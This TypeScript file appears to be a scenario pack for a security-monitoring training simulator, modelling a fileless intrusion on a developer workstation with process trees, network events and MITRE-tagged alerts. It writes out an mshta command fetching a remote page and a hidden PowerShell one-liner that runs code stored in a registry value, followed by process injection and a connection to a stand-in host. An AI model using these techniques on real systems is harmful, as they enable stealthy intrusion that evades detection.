import type { Pack } from './model.ts';
import { alert, asked, connected, host, injected, ran, scripted, setValue } from './write.ts';

/** No file is ever written: a stored script, WMI, injection into a process that belongs there. Nothing here has a hash of its own. */
const USER = 'AOZORA\\t.yamada';
const POWERSHELL = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe';

export const fileless: Pack = {
  name: 'fileless',
  title: { en: 'Living off the land: a script that is nowhere on disk', ja: 'ファイルレス攻撃(正規ツールの悪用)' },
  hosts: [
    host({
      key: 'pc',
      name: 'KAIHATSU-WS-09',
      address: '192.0.2.118',
      group: '開発部PC',
      policy: '開発者向け(検知のみ)',
      user: 't.yamada',
    }),
  ],
  processes: [
    ran({
      key: 'explorer',
      host: 'pc',
      parent: null,
      at: -7200,
      pid: 5012,
      image: 'C:\\Windows\\explorer.exe',
      commandLine: 'C:\\Windows\\Explorer.EXE',
      user: USER,
    }),
    ran({
      key: 'mshta',
      host: 'pc',
      parent: 'explorer',
      at: -40,
      endsAt: -2,
      pid: 9120,
      image: 'C:\\Windows\\System32\\mshta.exe',
      commandLine: 'mshta.exe https://support.meeting-join.example/verify',
      user: USER,
    }),
    ran({
      key: 'powershell',
      host: 'pc',
      parent: 'mshta',
      at: -10,
      endsAt: 60,
      pid: 9188,
      image: POWERSHELL,
      commandLine:
        'powershell.exe -nop -w hidden -c "iex ([Text.Encoding]::UTF8.GetString((gp HKCU:\\Software\\Fonts).Data))"',
      user: USER,
    }),
    ran({
      key: 'wmi',
      host: 'pc',
      parent: null,
      at: -80_000,
      pid: 3020,
      image: 'C:\\Windows\\System32\\wbem\\WmiPrvSE.exe',
      commandLine: 'C:\\Windows\\system32\\wbem\\wmiprvse.exe',
      user: 'NT AUTHORITY\\NETWORK SERVICE',
      integrity: 'system',
    }),
    ran({
      key: 'svchost',
      host: 'pc',
      parent: 'wmi',
      at: 20,
      pid: 9300,
      image: 'C:\\Windows\\System32\\svchost.exe',
      commandLine: 'C:\\Windows\\System32\\svchost.exe',
      user: USER,
    }),
  ],
  acts: [
    asked(-39, 'mshta', 'support.meeting-join.example', '198.51.100.140'),
    connected(-38, 'mshta', '198.51.100.140:443', 'support.meeting-join.example'),
    setValue(-12, 'mshta', ['HKCU\\Software\\Fonts', 'Data', '(binary, 48 KB)']),
    scripted(-5, 'powershell', '$d=(gp HKCU:\\Software\\Fonts).Data; $s=[Text.Encoding]::UTF8.GetString($d); iex $s'),
    scripted(2, 'powershell', 'Get-CimInstance Win32_ComputerSystem; Invoke-CimMethod Win32_Process Create …'),
    injected(22, 'powershell', 'svchost'),
    asked(30, 'svchost', 'api.time-series-metrics.example', '198.51.100.141'),
    connected(31, 'svchost', '198.51.100.141:8443', 'api.time-series-metrics.example'),
  ],
  logons: [],
  alerts: [
    alert({
      key: 'mshta-remote',
      at: 0,
      process: 'powershell',
      title: 'Script host ran code kept in the registry',
      description: 'mshta opened a remote page, which started PowerShell on code kept in a registry value.',
      tactic: 'TA0005 Defense Evasion',
      technique: 'T1218.005 Mshta',
      severity: 'high',
    }),
    alert({
      key: 'injected-svchost',
      at: 25,
      process: 'svchost',
      title: 'Code injected into a process without a service',
      description: 'A svchost.exe without parameters received a thread from PowerShell.',
      tactic: 'TA0005 Defense Evasion',
      technique: 'T1055 Process Injection',
      severity: 'critical',
    }),
  ],
  vulnerabilities: [],
};
